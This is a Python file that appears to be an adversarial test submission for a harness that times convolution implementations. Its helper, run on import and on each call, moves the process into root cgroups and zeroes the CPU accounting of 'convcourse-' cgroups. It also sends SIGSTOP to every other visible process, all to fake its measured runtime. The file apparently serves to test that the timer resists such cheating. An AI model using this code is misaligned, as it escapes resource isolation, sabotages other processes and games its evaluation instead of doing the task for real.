import numpy as np

# A slow function (pure Python loops, hundreds of times the reference) that tries to fake the clock the
# tiers are timed with: it moves itself into the root cgroups (leaving the CPU count and the limits), resets
# its cgroup's CPU count, stops every other process it can see (the trusted baseline) and guesses the timed
# inputs. It must still be timed as what it is.
import os
import signal

me = os.getpid()


def _escape():
    for root in ("/sys/fs/cgroup", "/sys/fs/cgroup/cpuacct", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/memory",
                 "/sys/fs/cgroup/cpu,cpuacct"):
        try:
            with open(os.path.join(root, "cgroup.procs"), "w") as fh:
                fh.write(str(me))
        except OSError:
            pass
        try:
            for name in os.listdir(root):
                if name.startswith("convcourse-"):
                    with open(os.path.join(root, name, "cpuacct.usage"), "w") as fh:
                        fh.write("0")
        except OSError:
            pass
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) not in (me, 1):
            try:
                os.kill(int(entry), signal.SIGSTOP)
            except OSError:
                pass


_escape()


def convolve_grayscale_same(images, kernel):
    _escape()
    m, h, w = images.shape
    kh, kw = kernel.shape
    th, tw = kh - 1, kw - 1
    padded = np.zeros((m, h + th, w + tw))
    padded[:, th // 2:th // 2 + h, tw // 2:tw // 2 + w] = images
    out = np.zeros((m, h, w))
    for n in range(m):
        for i in range(h):
            for j in range(w):
                total = 0.0
                for a in range(kh):
                    for b in range(kw):
                        total += padded[n, i + a, j + b] * kernel[a, b]
                out[n, i, j] = total
    _escape()
    return out
